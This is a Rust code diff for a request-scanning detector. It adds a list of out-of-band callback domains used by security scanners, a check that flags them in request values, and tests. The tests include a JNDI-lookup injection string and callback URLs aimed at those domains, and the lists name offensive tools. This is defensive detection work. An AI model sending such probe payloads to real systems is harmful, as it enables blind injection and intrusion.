@@ -7,10 +7,16 @@
 //! and `Authorization` are long random strings, read here for nothing). Legitimate monitoring
 //! (`Pingdom`, `UptimeRobot`) is not on the list. A match is High: a scanner is reconnaissance,
 //! not an exploit, but operators want it blocked.
+//!
+//! The callback domains are also looked for in every other value ([`Callbacks`]): a webhook URL,
+//! an XML entity or a `${jndi:...}` that points at `abc.oast.fun` is a scanner's blind probe for
+//! SSRF, XXE or injection, whatever the payload around it.
 
+use super::gate::gated;
 use super::literals::Literals;
-use super::{Family, Hit};
+use super::{Check, Family, Hit, Subject, Trigger};
 use crate::facts::RequestHead;
+use crate::fields::Part;
 use crate::finding::Severity::High;
 
 pub(crate) struct Scanner {
@@ -23,9 +29,13 @@ const TOOLS: &[&str] = &[
     "nmap nse", "commix", "xsstrike", "fimap", "jbrofuzz", "appscan", "webinspect", "burp collaborator", "burpsuite",
     "qualys", "whatweb", "jaeles", "morfeus", "zmeu", "paros", "webshag", "brutus", "bsqlbf", "sqlninja",
     "pangolin", "absinthe", "mysqloit", "metasploit", "hydra", "medusa", "cgichk", "n-stealth", "nsauditor",
-    "interactsh", ".oast.fun", ".oast.pro", ".oast.live", ".oast.site", ".oast.online", ".oast.me", ".oastify.com",
-    "burpcollaborator.net", "interact.sh", "dnslog.cn", "ceye.io", "canarytokens", "fuzz faster u fool", "dirsearch",
-    "wapiti", "xsser", "joomscan", "droopescan", "cmsmap",
+    "interactsh", "canarytokens", "fuzz faster u fool", "dirsearch", "wapiti", "xsser", "joomscan", "droopescan", "cmsmap",
+];
+
+/// Out-of-band interaction services: domains that exist to receive scanners' callbacks.
+const CALLBACK_DOMAINS: &[&str] = &[
+    ".oast.fun", ".oast.pro", ".oast.live", ".oast.site", ".oast.online", ".oast.me", ".oastify.com",
+    "burpcollaborator.net", "interact.sh", "dnslog.cn", "ceye.io",
 ];
 
 const HEADERS: &[&str] = &["acunetix-aspect", "acunetix-aspect-password", "acunetix-aspect-queries", "x-scanner", "x-wipp", "x-request-memo", "x-requestmanager-memo", "x-wapiti"];
@@ -34,7 +44,8 @@ impl Scanner {
     pub fn new() -> Result<Scanner, String> {
         // PERF: a full DFA walked in our own loop; every header value of every request goes
         // through it.
-        Ok(Scanner { names: Literals::new("scanner names", TOOLS)? })
+        let names: Vec<&str> = TOOLS.iter().chain(CALLBACK_DOMAINS).copied().collect();
+        Ok(Scanner { names: Literals::new("scanner names", &names)? })
     }
 
     pub fn scan(&self, head: &RequestHead, out: &mut Vec<(Hit, String, String)>) {
@@ -57,6 +68,46 @@ impl Scanner {
     }
 }
 
+/// Gate: the domain ends there (`x.oast.fun/`, `x.oast.fun"`), it is not the start of a longer
+/// name (`interact.shop`).
+fn domain_end(b: &[u8], _s: usize, e: usize) -> bool {
+    !b.get(e).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
+}
+
+/// Callback domains in values other than headers (which [`Scanner::scan`] reads).
+pub(crate) struct Callbacks;
+
+impl Check for Callbacks {
+    fn triggers(&self) -> &'static [Trigger] {
+        const T: &[Trigger] = &[
+            gated(".oast.fun", domain_end),
+            gated(".oast.pro", domain_end),
+            gated(".oast.live", domain_end),
+            gated(".oast.site", domain_end),
+            gated(".oast.online", domain_end),
+            gated(".oast.me", domain_end),
+            gated(".oastify.com", domain_end),
+            gated("burpcollaborator.net", domain_end),
+            gated("interact.sh", domain_end),
+            gated("dnslog.cn", domain_end),
+            gated("ceye.io", domain_end),
+        ];
+        T
+    }
+
+    fn check(&self, s: &Subject<'_>) -> Option<Hit> {
+        if matches!(s.part, Part::Header | Part::ResponseHeader | Part::ResponseBody) {
+            return None;
+        }
+        let b = s.text.as_bytes();
+        CALLBACK_DOMAINS.iter().find_map(|d| {
+            s.text.match_indices(d).find(|(at, _)| domain_end(b, *at, at + d.len())).map(|(at, _)| {
+                Hit::new(Family::Scanner, High, 0.9, at, "out-of-band callback domain")
+            })
+        })
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::super::testing::detector;
@@ -67,6 +118,17 @@ mod tests {
         let mut out = Vec::new();
         detector().scan_head(&h, &mut out);
         out.into_iter().map(|f| f.kind.to_string()).collect()
+    }
+
+    #[test]
+    fn callback_domains_in_values() {
+        use super::super::testing::{any_flag_in_json, flags_in_json};
+        assert!(flags_in_json("attack.scanner", "https://c59h2k3xq.oast.fun/hook"));
+        assert!(flags_in_json("attack.scanner", "${jndi:ldap://x.interact.sh/a}"));
+        assert!(flags_in_json("attack.scanner", "abc123.burpcollaborator.net"));
+        assert!(!any_flag_in_json("https://interact.shop/cart"));
+        assert!(!any_flag_in_json("see https://oast.fun.example.com"));
+        assert!(!any_flag_in_json("https://hooks.example.com/ceye.iox"));
     }
 
     #[test]
